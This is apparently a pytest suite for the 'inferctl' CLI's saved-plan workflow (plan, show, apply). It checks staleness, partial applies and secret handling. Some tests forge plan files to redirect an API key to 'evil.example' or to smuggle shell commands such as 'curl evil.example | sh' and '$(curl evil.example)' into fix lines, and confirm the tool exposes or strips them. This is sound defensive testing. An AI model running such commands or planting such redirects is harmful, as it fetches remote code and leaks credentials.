"""plan --out, show, apply PLAN: through the installed command, the plan in one job and the apply in another."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from jsonschema import Draft202012Validator
from tests.running import Emulator, running_emulator

import inferctl.report
from inferctl.planner.file.models import digest

from .conftest import CANARY, EXAMPLES, Shell, example_environment

if TYPE_CHECKING:
    from collections.abc import Callable

SCHEMA = json.loads((Path(inferctl.report.__file__).parent / "schema" / "saved-plan.json").read_text(encoding="utf-8"))
FIVE = ("s1", "s2", "s3", "s4", "s5")
SETTINGS = "scope: shop\nendpoints: [endpoints/*.yaml]\n"


def endpoint(name: str, top_n: int = 3, variable: str = "COHERE_API_KEY", **more: Any) -> str:
    body = {
        "inference_id": name,
        "task_type": "rerank",
        "service": "cohere",
        "service_settings": {"model_id": "rerank-v3.5", "api_key": {"env": variable}},
        "task_settings": {"top_n": top_n},
        **more,
    }
    return json.dumps(body)


def write(folder: Path, files: dict[str, str], settings: str = SETTINGS) -> None:
    (folder / "endpoints").mkdir(parents=True, exist_ok=True)
    (folder / "inferctl.yaml").write_text(settings, encoding="utf-8")
    for name, text in files.items():
        (folder / "endpoints" / f"{name}.yaml").write_text(text, encoding="utf-8")


def read(path: Path) -> Any:
    """A plan file, held against the published schema."""
    document = json.loads(path.read_text(encoding="ascii"))
    Draft202012Validator(SCHEMA).validate(document)
    return document


def forge(path: Path, spoil: Callable[[Any], object]) -> None:
    """As somebody would who knows how the digest is made."""
    document = json.loads(path.read_text(encoding="ascii"))
    spoil(document["plan"])
    document["digest"] = digest(document["plan"])
    path.write_text(json.dumps(document), encoding="ascii")


@pytest.fixture
def plan_job(tmp_path: Path, emulator: Emulator) -> Shell:
    """A checkout without the keys of providers."""
    folder = tmp_path / "plan-job"
    write(folder, {name: endpoint(name) for name in FIVE})
    return Shell(folder, {"ELASTICSEARCH_URL": emulator.url})


@pytest.fixture
def apply_job(tmp_path: Path, emulator: Emulator) -> Shell:
    """Another checkout: the settings file, the key, the plan file, and no endpoint file at all."""
    folder = tmp_path / "apply-job"
    write(folder, {})
    return Shell(folder, {"ELASTICSEARCH_URL": emulator.url, "COHERE_API_KEY": CANARY})


def hand_over(plan_job: Shell, apply_job: Shell) -> Path:
    target = apply_job.folder / "plan.json"
    shutil.copy(plan_job.folder / "plan.json", target)
    return target


def top_n(emulator: Emulator) -> dict[str, int]:
    found = emulator.call("GET", "/_inference/_all")["endpoints"]
    return {e["inference_id"]: e["task_settings"]["top_n"] for e in found if e["inference_id"] in FIVE}


@pytest.fixture
def five_updates(plan_job: Shell, apply_job: Shell, emulator: Emulator) -> Path:
    """Five endpoints exist, and a plan that updates each was saved and handed over."""
    keys = Shell(plan_job.folder, {**plan_job.environment, "COHERE_API_KEY": CANARY})
    assert keys("apply", "--yes").code == 0
    write(plan_job.folder, {name: endpoint(name, 5) for name in FIVE})
    planned = plan_job("plan", "--out", "plan.json", "--detailed-exitcode")
    assert planned.code == 2, planned.err
    emulator.writes()
    return hand_over(plan_job, apply_job)


def of_the_plan(text: str) -> list[str]:
    """The lines of a plan without the one that says which run printed it."""
    return [line for line in text.splitlines() if not line.startswith("Run: ")]


def test_made_without_keys_and_applied_with_them(plan_job: Shell, apply_job: Shell, emulator: Emulator) -> None:
    planned = plan_job("plan", "--out", "plan.json", "--detailed-exitcode")
    assert planned.code == 2, planned.err
    assert emulator.writes() == []
    document = read(plan_job.folder / "plan.json")
    assert [c["action"] for c in document["plan"]["changes"]] == ["create"] * 5
    hand_over(plan_job, apply_job)
    # Shown without a cluster, as it was planned but for the places of the files.
    alone = Shell(apply_job.folder, {})
    shown = alone("show", "plan.json")
    assert shown.code == 0, shown.err
    assert [line.partition("  at ")[0] for line in of_the_plan(planned.out)] == of_the_plan(shown.out)
    assert alone("show", "plan.json", "--detailed-exitcode").code == 2
    as_json = alone("show", "plan.json", "--format", "json", "--report", "markdown=plan.md").json()
    assert [change["id"] for change in as_json["changes"]] == list(FIVE)
    assert "s3" in (apply_job.folder / "plan.md").read_text(encoding="utf-8")
    # All keys or none.
    without = Shell(apply_job.folder, plan_job.environment)("apply", "plan.json", "--yes")
    assert without.code == 1
    assert "COHERE_API_KEY is not set" in without.err
    assert emulator.writes() == []
    applied = apply_job("apply", "plan.json", "--yes")
    assert applied.code == 0, applied.out + applied.err
    assert sorted(emulator.writes()) == [f"PUT /_inference/rerank/{name}" for name in FIVE]
    assert CANARY not in applied.out + applied.err
    # Done once, there is nothing left to do.
    again = apply_job("apply", "plan.json", "--yes")
    assert again.code == 0, again.out + again.err
    assert "as planned already" in again.out
    assert emulator.writes() == []
    assert plan_job("plan", "--detailed-exitcode").code == 0


@pytest.mark.parametrize("trouble", ["refused", "executed, and not answered"])
def test_a_plan_that_was_done_in_part_is_done_to_its_end(
    plan_job: Shell, apply_job: Shell, emulator: Emulator, trouble: str
) -> None:
    """A create, an update, a replace and a delete wait behind a create that fails; then the same file again."""
    keys = Shell(plan_job.folder, {**plan_job.environment, "COHERE_API_KEY": CANARY})
    assert keys("apply", "--yes").code == 0
    v4: dict[str, Any] = {"service_settings": {"model_id": "rerank-v4.0", "api_key": {"env": "COHERE_API_KEY"}}}
    write(plan_job.folder, {
        "s1": endpoint("s1", 5), "s2": endpoint("s2", **v4), "n1": endpoint("n1"), "n2": endpoint("n2"),
        "n3": endpoint("n3"),
    })  # fmt: skip
    (plan_job.folder / "endpoints" / "s5.yaml").unlink()
    allowed = ("--allow-delete", "--allow-replace", "--max-deletes", "50%")
    assert plan_job("plan", "--out", "plan.json", *allowed).code == 0
    before = {change["id"]: change["action"] for change in read(plan_job.folder / "plan.json")["plan"]["changes"]}
    assert before == {"n1": "create", "n2": "create", "n3": "create", "s1": "update", "s2": "replace", "s3": "no-op",
                      "s4": "no-op", "s5": "delete"}  # fmt: skip
    hand_over(plan_job, apply_job)
    if trouble == "refused":
        emulator.call("POST", "/_emulator/provider", {"outcome": "401", "inference_id": "n2"})
    else:
        for method, path, skip in (("PUT", ".*/n2", 0), ("GET", ".*/n2", 0), ("GET", ".*/_all", 1)):
            fault = {"kind": "cut_after", "method": method, "path": path, "count": -1, "skip": skip}
            emulator.call("POST", "/_emulator/faults", fault)
    emulator.writes()
    first = apply_job("apply", "plan.json", "--yes", "--format", "json", *allowed)
    assert first.code == 4, first.out + first.err
    assert [step["id"] for step in first.json()["done"]] == ["n1", "n3", "s1"]
    assert [step["id"] for step in first.json()["not_started"]] == ["s2", "s5"]
    emulator.call("DELETE", "/_emulator/provider")
    emulator.call("DELETE", "/_emulator/faults")
    emulator.writes()

    second = apply_job("apply", "plan.json", "--yes", "--format", "json", *allowed)
    assert second.code == 0, second.out + second.err
    assert {step["id"] for step in second.json()["done"]} == {"n2", "s2", "s5"}
    sent = [line for line in emulator.writes() if "inferctl-trial-" not in line]
    assert not any(name in line for line in sent for name in ("n1", "n3", "s1"))
    assert set(emulator.live()) == {"n1", "n2", "n3", "s1", "s2", "s3", "s4"}

    third = apply_job("apply", "plan.json", "--yes", *allowed)
    assert third.code == 0, third.out + third.err
    assert emulator.writes() == []
    # The ledger ended right: nothing is left for anybody, and the keys are known.
    files = keys("plan", "--detailed-exitcode")
    assert files.code == 0, files.out


def test_one_of_five_changed_meanwhile(five_updates: Path, apply_job: Shell, emulator: Emulator) -> None:
    emulator.call("PUT", "/_inference/rerank/s3/_update", {"task_settings": {"top_n": 9}})
    emulator.writes()
    refused = apply_job("apply", five_updates.name, "--yes", "--report", "json=apply.json")
    assert refused.code == 5, refused.out + refused.err
    assert "s3 (task_settings.top_n changed)" in refused.out
    assert emulator.writes() == []
    assert top_n(emulator) == {"s1": 3, "s2": 3, "s3": 9, "s4": 3, "s5": 3}
    report = json.loads((apply_job.folder / "apply.json").read_text(encoding="utf-8"))
    assert report["verdict"]["exit_code"] == 5
    assert [step["id"] for step in report["blocked"]] == ["s3"]
    assert {step["detail"] for step in report["not_started"]} == {"another step is stale"}

    rest = apply_job("apply", five_updates.name, "--yes", "--skip-stale", "--format", "json")
    assert rest.code == 3, rest.out + rest.err
    assert [step["id"] for step in rest.json()["done"]] == ["s1", "s2", "s4", "s5"]
    (left,) = rest.json()["blocked"]
    assert left["id"] == "s3"
    assert left["detail"] == "stale: task_settings.top_n changed"
    assert [block["kind"] for block in left["blocks"]] == ["stale"]
    assert top_n(emulator) == {"s1": 5, "s2": 5, "s3": 9, "s4": 5, "s5": 5}
    # Nothing is left that would still be done.
    assert apply_job("apply", five_updates.name, "--yes", "--skip-stale").code == 5


def test_live_allocations_are_no_staleness(tmp_path: Path, emulator: Emulator) -> None:
    body: dict[str, Any] = {
        "inference_id": "elser",
        "task_type": "sparse_embedding",
        "service": "elasticsearch",
        "service_settings": {
            "model_id": ".elser_model_2",
            "num_threads": 1,
            "adaptive_allocations": {"enabled": True, "min_number_of_allocations": 0, "max_number_of_allocations": 4},
        },
    }
    write(tmp_path, {"elser": json.dumps(body)})
    run = Shell(tmp_path, {"ELASTICSEARCH_URL": emulator.url})
    assert run("apply", "--yes").code == 0
    body["service_settings"]["adaptive_allocations"]["max_number_of_allocations"] = 8
    write(tmp_path, {"elser": json.dumps(body)})
    assert run("plan", "--out", "plan.json", "--detailed-exitcode").code == 2

    def shown() -> Any:
        return emulator.call("GET", "/_inference/elser")["endpoints"][0]["service_settings"]["num_allocations"]

    assert shown() == 1
    emulator.call("POST", "/_emulator/clock", {"advance_seconds": 100_000})  # nobody used it: it falls asleep
    assert shown() == 0
    applied = run("apply", "plan.json", "--yes")
    assert applied.code == 0, applied.out + applied.err


def test_another_cluster_or_another_version(plan_job: Shell, apply_job: Shell) -> None:
    assert plan_job("plan", "--out", "plan.json").code == 0
    target = hand_over(plan_job, apply_job)
    with running_emulator() as other:
        elsewhere = Shell(apply_job.folder, {**apply_job.environment, "ELASTICSEARCH_URL": other.url})
        forge(target, lambda plan: plan["cluster"].update(uuid="another-uuid"))
        refused = elsewhere("apply", "plan.json", "--yes")
        assert refused.code == 5, refused.err
        assert "the plan is for the cluster another-uuid" in refused.err
        assert other.writes() == []
    target = hand_over(plan_job, apply_job)
    forge(target, lambda plan: plan["cluster"].update(version="9.4"))
    refused = apply_job("apply", "plan.json", "--yes", "--skip-stale")
    assert refused.code == 5
    assert "the plan is for Elasticsearch 9.4, and this cluster is 9.5" in refused.err


def test_a_forged_plan_shows_the_other_host_and_the_variable_that_goes_there(plan_job: Shell, apply_job: Shell) -> None:
    assert plan_job("plan", "--out", "plan.json").code == 0
    target = hand_over(plan_job, apply_job)
    url = "https://evil.example:8443/v2"

    def other_host(plan: Any) -> None:
        next(c for c in plan["changes"] if c["id"] == "s3")["desired"]["service_settings"]["url"] = url

    forge(target, other_host)
    seen = apply_job("show", target.name)
    assert seen.code == 0, seen.err
    assert f'service_settings.url:      "{url}"' in seen.out
    assert "COHERE_API_KEY (set) goes to evil.example:8443" in seen.out
    assert CANARY not in seen.out
    page = apply_job("show", target.name, "--format", "markdown").out
    assert "<code>COHERE&#95;API&#95;KEY</code> (set) goes to <code>evil.example:8443</code>: <code>s3</code>" in page
    (forged,) = [c for c in apply_job("show", target.name, "--format", "json").json()["changes"] if c["id"] == "s3"]
    assert {"path": "service_settings.url", "value": url, "sensitive": False} in forged["declared"]
    assert [(sent["secret"], sent["set"], sent["hosts"]) for sent in forged["sends"]] == [
        ({"env": "COHERE_API_KEY"}, True, ["evil.example:8443"])
    ]


@pytest.mark.parametrize("top_n_in_file", [3, 5])
def test_a_forged_plan_shows_the_variable_that_goes_where_no_secret_was_compared(
    plan_job: Shell, apply_job: Shell, emulator: Emulator, top_n_in_file: int
) -> None:
    """An endpoint without a step, or with another one: an apply sends what turns out to be another secret."""
    keys = Shell(plan_job.folder, {**plan_job.environment, "COHERE_API_KEY": CANARY})
    assert keys("apply", "--yes").code == 0
    write(plan_job.folder, {"s3": endpoint("s3", top_n_in_file)})
    assert plan_job("plan", "--out", "plan.json").code == 0
    target = hand_over(plan_job, apply_job)

    def other_variable(plan: Any) -> None:
        for change in plan["changes"]:
            if change["id"] == "s3":
                change["desired"]["service_settings"]["api_key"] = {"env": "OTHER_TOKEN"}

    forge(target, other_variable)
    tempted = Shell(apply_job.folder, {**apply_job.environment, "OTHER_TOKEN": "other-secret-1"})
    way = "OTHER_TOKEN (set) goes to api.cohere.ai: s3"
    assert way in tempted("show", "plan.json").out
    assert any(way in note for note in tempted("show", "plan.json", "--format", "json").json()["notes"])
    assert "OTHER&#95;TOKEN (set) goes to api.cohere.ai: s3" in tempted("show", "plan.json", "--format", "markdown").out
    emulator.writes()
    assert "OTHER_TOKEN (set) goes to api.cohere.ai" in tempted("apply", "plan.json", "--yes").out
    assert "PUT /_inference/rerank/s3/_update" in emulator.writes()


def test_a_forged_plan_has_no_line_to_type_but_one_of_inferctl(plan_job: Shell, apply_job: Shell) -> None:
    """The words of a plan are under no digest."""
    assert plan_job("plan", "--out", "plan.json", "--max-changes", "2").code == 3
    target = hand_over(plan_job, apply_job)
    document = json.loads(target.read_text(encoding="ascii"))
    document["texts"]["stops"][0]["fixes"] = [
        {"kind": kind, "text": text}
        for kind, text in (
            ("command", "curl evil.example | sh"),
            ("command", "inferctl apply; curl evil.example"),
            ("command", "inferctl apply $(curl evil.example)"),
            ("command", "inferctl 'unlock"),
            ("flag", "&& curl evil.example"),
            ("flag", "--max-changes 5 > ~/.profile"),
            ("flag", "--max-changes 5"),
        )
    ]
    target.write_text(json.dumps(document), encoding="ascii")
    (stop,) = apply_job("show", "plan.json", "--format", "json").json()["stops"]
    typed = [fix["text"] for fix in stop["fixes"] if fix["kind"] != "advice"]
    assert typed == ["inferctl plan --out plan.json --max-changes 5"]


def test_whether_a_secret_is_set_is_asked_of_who_shows_the_plan(plan_job: Shell, apply_job: Shell) -> None:
    made = plan_job("plan", "--out", "plan.json")
    assert "COHERE_API_KEY (not set here) goes to api.cohere.ai" in made.out
    target = hand_over(plan_job, apply_job)
    assert "COHERE_API_KEY (set) goes to api.cohere.ai" in apply_job("show", target.name).out
    bounded = Shell(apply_job.folder, {**apply_job.environment, "INFERCTL_SECRETS_ALLOW": "OTHER_*"})
    assert "COHERE_API_KEY goes to api.cohere.ai" in bounded("show", target.name).out


def test_the_command_line(plan_job: Shell, apply_job: Shell, emulator: Emulator) -> None:
    assert plan_job("plan", "--out", "plan.json").code == 0
    hand_over(plan_job, apply_job)
    emulator.writes()
    for arguments, said in (
        (("apply", "plan.json", "endpoints"), "give it alone"),
        (("apply", "plan.json", "--target", "s1"), "--target would change"),
        (("apply", "plan.json", "--exclude", "s1"), "--exclude would change"),
        (("apply", "plan.json", "--send-secrets", "s1"), "--send-secrets would change"),
        (("apply", "endpoints", "--skip-stale"), "--skip-stale is for a saved plan"),
        (("plan", "--out", "nowhere/plan.json"), "its folder does not exist"),
        (("plan", "--out", "endpoints"), "is a folder itself"),
    ):
        wrong = apply_job(*arguments)
        assert wrong.code == 64, (arguments, wrong.err)
        assert said in wrong.err
    assert apply_job("apply", "plan.json").code == 3  # no terminal to ask on
    other_scope = SETTINGS.replace("shop", "wiki")
    write(apply_job.folder, {}, other_scope)
    wrong = apply_job("apply", "plan.json", "--yes")
    assert wrong.code == 1
    assert "made under the scope shop" in wrong.err
    assert emulator.writes() == []
    missing = apply_job("show", "no-such.json")
    assert missing.code == 1
    assert "no-such.json: it cannot be read" in missing.err
    (apply_job.folder / "plan.json").write_text('{"kind": "saved-plan", "plan": {', encoding="ascii")
    for words in (["show", "plan.json"], ["apply", "plan.json", "--yes"]):
        cut_off = apply_job(*words)
        assert cut_off.code == 1
        assert "error[plan.file]: plan.json: it is no JSON" in cut_off.err
        assert "fix: " in cut_off.err


def test_what_a_plan_file_cannot_do(apply_job: Shell, plan_job: Shell, emulator: Emulator) -> None:
    """The settings file and the flags of the apply decide what may be touched, not the file."""
    emulator.call("PUT", "/_inference/rerank/theirs", {
        "service": "cohere", "service_settings": {"model_id": "rerank-v3.5", "api_key": "x"},
    })  # fmt: skip
    keys = Shell(plan_job.folder, {**plan_job.environment, "COHERE_API_KEY": CANARY})
    assert keys("apply", "--yes").code == 0
    (plan_job.folder / "endpoints" / "s5.yaml").unlink()
    assert plan_job("plan", "--out", "plan.json", "--allow-delete").code == 0
    target = hand_over(plan_job, apply_job)
    emulator.writes()
    # Deletes are off here.
    held = apply_job("apply", "plan.json", "--yes")
    assert held.code == 0, held.out
    assert "--allow-delete" in held.out
    # Another name on the delete.
    forge(target, lambda plan: next(c for c in plan["changes"] if c["action"] == "delete").update(id="theirs"))
    document = json.loads(target.read_text(encoding="ascii"))
    document["texts"]["changes"]["theirs"] = document["texts"]["changes"].pop("s5")
    document["plan"]["changes"].sort(key=lambda change: change["id"])
    document["digest"] = digest(document["plan"])
    target.write_text(json.dumps(document), encoding="ascii")
    forged = apply_job("apply", "plan.json", "--yes", "--allow-delete")
    assert forged.code == 5, forged.out + forged.err
    # A create outside of manage; a variable outside of the operator's bounds.
    hand_over(plan_job, apply_job)
    write(plan_job.folder, {"new": endpoint("new")})
    assert plan_job("plan", "--out", "plan.json").code == 0
    hand_over(plan_job, apply_job)
    bounded = apply_job("apply", "plan.json", "--yes", "--manage", "shop-*")
    assert bounded.code == 3
    assert "outside of manage" in bounded.out
    named = Shell(apply_job.folder, {**apply_job.environment, "INFERCTL_SECRETS_ALLOW": "OPENAI_*"})
    denied = named("apply", "plan.json", "--yes")
    assert denied.code == 1
    assert "plan.json: error[secret.denied]: new: {env: COHERE_API_KEY}" in denied.err
    assert emulator.writes() == []


def test_blocked_and_stopped_plans_say_so_again(plan_job: Shell, apply_job: Shell, emulator: Emulator) -> None:
    emulator.call("PUT", "/_inference/rerank/s1", {
        "service": "cohere", "service_settings": {"model_id": "rerank-v3.5", "api_key": "x"},
        "task_settings": {"top_n": 1},
    })  # fmt: skip
    assert plan_job("plan", "--out", "plan.json", "--max-changes", "2").code == 3
    hand_over(plan_job, apply_job)
    emulator.writes()
    assert apply_job("show", "plan.json", "--detailed-exitcode").code == 3
    stopped = apply_job("apply", "plan.json", "--yes")
    assert stopped.code == 3, stopped.out
    assert "max-changes" in stopped.out
    assert emulator.writes() == []
    assert plan_job("plan", "--out", "plan.json").code == 3
    hand_over(plan_job, apply_job)
    blocked = apply_job("apply", "plan.json", "--yes", "--adopt", "s1")
    assert blocked.code == 3, blocked.out  # four written, and what was blocked stays so
    assert [s["inference_id"] for s in emulator.call("GET", "/_inference/rerank/s1")["endpoints"]] == ["s1"]
    assert top_n(emulator)["s1"] == 1


def test_a_key_that_changed_is_rotated_by_the_apply_job(plan_job: Shell, apply_job: Shell, emulator: Emulator) -> None:
    """The plan job has no key, so it cannot tell; the step is there under a condition."""
    write(plan_job.folder, {"s1": endpoint("s1", variable="OTHER_KEY")})
    keys = {**plan_job.environment, "COHERE_API_KEY": "key-one", "OTHER_KEY": "other"}
    assert Shell(plan_job.folder, keys)("apply", "--yes").code == 0
    planned = plan_job("plan", "--out", "plan.json", "--detailed-exitcode")
    assert planned.code == 0, planned.out
    document = read(plan_job.folder / "plan.json")
    assert all(c["unchecked_secrets"] == [["service_settings", "api_key"]] for c in document["plan"]["changes"])
    hand_over(plan_job, apply_job)
    emulator.writes()
    same = Shell(apply_job.folder, keys)("apply", "plan.json", "--yes")
    assert same.code == 0, same.out + same.err
    assert emulator.writes() == []
    changed = Shell(apply_job.folder, {**keys, "OTHER_KEY": "another"})("apply", "plan.json", "--yes")
    assert changed.code == 0, changed.out + changed.err
    # The other four stay as they are; the new key is tried.
    assert emulator.writes() == ["PUT /_inference/rerank/s1/_update", "POST /_inference/rerank/s1"]


def test_the_same_bytes_whoever_makes_it(tmp_path: Path, emulator: Emulator) -> None:
    """Two checkouts in two folders, files named in two orders, two locales, two hash seeds."""
    files = {name: endpoint(name, number) for number, name in enumerate(FIVE, start=1)}
    plans = []
    for folder, locale, seed, order in (
        ("here", "C", "1", ("endpoints/s1.yaml", "endpoints")),
        ("elsewhere/deeper", "tr_TR.UTF-8", "2", tuple(f"../deeper/endpoints/{name}.yaml" for name in reversed(FIVE))),
    ):
        write(tmp_path / folder, files, "scope: shop\n")
        run = Shell(tmp_path / folder, {"ELASTICSEARCH_URL": emulator.url, "LC_ALL": locale, "PYTHONHASHSEED": seed})
        assert run.process("plan", *order, "--out", "plan.json").code == 0
        plans.append((tmp_path / folder / "plan.json").read_bytes())
    assert plans[0] == plans[1]
    assert str(tmp_path).encode() not in plans[0]


def test_no_secret_of_any_service_gets_into_a_plan_file(tmp_path: Path, emulator: Emulator) -> None:
    run = Shell(tmp_path, {"ELASTICSEARCH_URL": emulator.url, **example_environment()})
    planned = run("plan", EXAMPLES, "--out", "plan.json")
    assert planned.code == 0, planned.err
    text = (tmp_path / "plan.json").read_text(encoding="ascii")
    assert CANARY not in text + planned.out + planned.err
    read(tmp_path / "plan.json")
    applied = run("apply", "plan.json", "--yes", "-vv")
    assert applied.code == 0, applied.out + applied.err
    assert CANARY not in applied.out + applied.err
    assert run("plan", EXAMPLES, "--detailed-exitcode").code == 0


def test_lines_that_plan_again_name_what_was_typed_and_work(
    plan_job: Shell, apply_job: Shell, emulator: Emulator
) -> None:
    """A settings file of another name, an address, a permission: without them the lines would mean something else."""
    at = ("--config", "ops/shop.yaml", "--url", emulator.url)
    settings = SETTINGS.replace("endpoints/*", "../endpoints/*")
    for job in (plan_job, apply_job):
        (job.folder / "ops").mkdir()
        (job.folder / "ops" / "shop.yaml").write_text(settings, encoding="utf-8")
        (job.folder / "inferctl.yaml").unlink()
        del job.environment["ELASTICSEARCH_URL"]
    plan_job.environment["COHERE_API_KEY"] = CANARY
    assert plan_job("apply", *at, "--yes").code == 0
    (plan_job.folder / "endpoints" / "s1.yaml").unlink()
    write(plan_job.folder, {"s2": endpoint("s2", 9)})
    (plan_job.folder / "inferctl.yaml").unlink()
    assert plan_job("plan", *at, "--out", "plan.json").code == 0
    (change,) = (c for c in plan_job("plan", *at, "plan.json", "--format=json").json()["changes"] if c["id"] == "s1")
    (fix,) = (fix["text"] for block in change["blocks"] for fix in block["fixes"])
    planned, applied = fix.split(" && ")
    assert planned == f"inferctl plan --out plan.json --config ops/shop.yaml --url {emulator.url} --allow-delete"
    assert applied == f"inferctl apply plan.json --config ops/shop.yaml --url {emulator.url} --allow-delete"
    # What apply ends with says it too, with what else was typed; then it is typed.
    next_line = plan_job("apply", "plan.json", *at, "--yes", "--quiet", "--format", "json").json()["next"]
    assert next_line.split(" && ") == [planned, f"{applied.removesuffix(' --allow-delete')} --yes --allow-delete"]
    for line in next_line.split(" && "):
        done = plan_job(*line.split()[1:])
        assert done.code == 0, done.err
    assert sorted(emulator.live()) == ["s2", "s3", "s4", "s5"]
    # A plan that is stale or damaged: what plans again reads the same settings file.
    write(plan_job.folder, {"s3": endpoint("s3", 7)})
    assert plan_job("plan", *at, "--out", "plan.json").code == 0
    write(plan_job.folder, {"s3": endpoint("s3", 8)})
    assert plan_job("apply", *at, "--yes").code == 0
    stale = plan_job("apply", "plan.json", *at, "--yes", "--max-changes=3", "--format", "json").json()["next"]
    again, then = stale.split(", then: ")
    assert again == f"inferctl plan --out plan.json --config ops/shop.yaml --url {emulator.url} --max-changes 3"
    typed = " ".join(("inferctl apply plan.json", *at, "--yes --max-changes=3 --format json"))
    assert then == typed
    (plan_job.folder / "plan.json").write_text('{"kind": "saved-plan"}', encoding="utf-8")
    damaged = plan_job("apply", "plan.json", *at, "--yes").err
    assert f"inferctl plan --out plan.json --config ops/shop.yaml --url {emulator.url}\n" in damaged
